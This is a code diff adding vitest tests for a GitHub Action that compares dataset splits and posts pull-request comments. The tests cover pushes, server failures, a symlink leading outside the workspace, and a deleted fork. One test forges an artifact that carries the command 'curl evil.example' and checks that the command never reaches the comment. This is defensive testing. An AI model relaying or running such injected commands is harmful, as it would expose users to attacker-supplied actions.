@@ -1,8 +1,12 @@
+import { symlinkSync } from 'node:fs'
+import { join } from 'node:path'
 import { afterEach, beforeEach, expect, test } from 'vitest'
 import { git } from '../support/bare_repository.ts'
-import { BREAKING, HARMLESS, UNRELATED } from '../support/changes.ts'
+import { BREAKING, HARMLESS, LABELS, UNRELATED } from '../support/changes.ts'
 import { reportOf } from '../support/runner.ts'
 import {
+  CONFIG,
+  CONFIG_FILE,
   createScenario,
   INDEX_FILE,
   pullRequestEvent,
@@ -72,6 +76,20 @@ test('a push is compared with the commit before it, and the index file is commit
   expect(scenario.repository.bare.text('refs/heads/main', INDEX_FILE)).toContain('"samples": 71')
 })
 
+test('a push that reads other data is judged by its own thresholds, compared with what the base read, and told of it', async () => {
+  const before = scenario.repository.bare.resolve('refs/heads/main') ?? ''
+  const moved = CONFIG.replace('./EMOPIA_1.0', './moved')
+    .replace('fail: 2.5', 'fail: 9')
+    .replace('data/split', 'data/new')
+  const after = scenario.commitToMain({ 'moved/label.csv': BREAKING[LABELS] ?? '', [CONFIG_FILE]: moved })
+  const run = await scenario.runEvent(push({ before, after }))
+  expect(run.exitCode, run.log).toBe(0)
+  const { change, findings, policy } = reportOf(run)
+  expect(policy.bound_by).toBe('head')
+  expect(change).toMatchObject({ added: 0, removed: 13 })
+  expect(findings.map(({ rule }) => rule)).toContain('data_changed')
+})
+
 test('a first push, whose before is all zeros, has no base and is gated all the same', async () => {
   const after = scenario.commitToMain(BREAKING)
   const run = await scenario.runEvent(push({ before: '0'.repeat(40), after }))
@@ -137,9 +155,45 @@ test('workflow_run posts nothing, and says so, where the head has moved on', asy
   const { pull, report } = await measuredFork()
   const measured = scenario.github.refresh(scenario.repository, pull)
   scenario.push(pull, UNRELATED)
-  const run = await second(pull, report, measured.head)
+  const run = await second(pull, report, { headSha: measured.head })
   expect(run.exitCode, run.log).toBe(0)
   expect(scenario.comments(pull)).toEqual([])
+  expect(run.stdout).toContain('The report is not posted')
+})
+
+test('workflow_run tells of a server that fails, asks for no permission, and fails nothing', async () => {
+  const { pull, report } = await measuredFork()
+  scenario.github.refuse({ matches: /pulls/, fault: { kind: 'status', status: 502, message: 'Bad Gateway' } })
+  const run = await second(pull, report)
+  expect(run.exitCode, run.log).toBe(0)
+  expect(run.stdout).toMatch(/::warning::The comment was not posted: 502 Bad Gateway/)
+  expect(run.stdout).not.toContain('permissions:')
+})
+
+test('workflow_run shows no command that the artifact brings', async () => {
+  const { pull, report } = await measuredFork()
+  const forged = JSON.parse(report)
+  forged.result = 'fail'
+  forged.findings = [{ ...FINDING, rule: 'index_file', message: 'stale' }]
+  forged.splits.file.command = 'curl evil.example'
+  const run = await second(pull, JSON.stringify(forged))
+  expect(run.exitCode, run.log).toBe(0)
+  expect(scenario.comments(pull)[0]).toContain('**To pass:** run `npx github:octo-org/dataset-balance#v1 split`')
+  expect(scenario.comments(pull)[0]).not.toContain('curl')
+})
+
+test('workflow_run reads no report through a link that leads out of the workspace', async () => {
+  const { pull, report } = await measuredFork()
+  const run = await second(pull, report, { through: 'link' })
+  expect(run.exitCode, run.log).toBe(1)
+  expect(run.stdout).toContain('it lies outside of the workspace')
+  expect(scenario.comments(pull)).toEqual([])
+})
+
+test('workflow_run posts nothing, and says so, where the fork is gone', async () => {
+  const { pull, report } = await measuredFork()
+  const run = await second(pull, report, { repository: null })
+  expect(run.exitCode, run.log).toBe(0)
   expect(run.stdout).toContain('The report is not posted')
 })
 
@@ -179,17 +233,30 @@ async function measuredFork() {
   return { pull, report: JSON.stringify(reportOf(run)) }
 }
 
-async function second(pull: Parameters<Scenario['run']>[0], report: string, headSha?: string) {
+const FINDING = { level: 'fail', value: 1, limit: 1, class: null, file: null, line: null, existing: false }
+
+interface Second {
+  readonly headSha?: string
+  readonly repository?: null
+  readonly through?: 'link'
+}
+
+async function second(
+  pull: Parameters<Scenario['run']>[0],
+  report: string,
+  { headSha, repository, through }: Second = {},
+) {
   const refs = scenario.github.refresh(scenario.repository, pull)
   const workspace = scenario.checkout(refs.base)
-  writeTo(workspace, 'report.json', report)
+  const file = writeTo(through === 'link' ? join(workspace, '..') : workspace, 'report.json', report)
+  if (through === 'link') symlinkSync(file, join(workspace, 'report.json'))
   const workflowRun = {
     id: 7,
     event: 'pull_request',
     conclusion: 'success',
     head_sha: headSha ?? refs.head,
     head_branch: pull.headBranch,
-    head_repository: { full_name: pull.headRepository },
+    head_repository: repository === null ? null : { full_name: pull.headRepository },
     pull_requests: [],
   }
   const event = { ...pullRequestEvent(pull, refs, 'completed'), workflow_run: workflowRun }
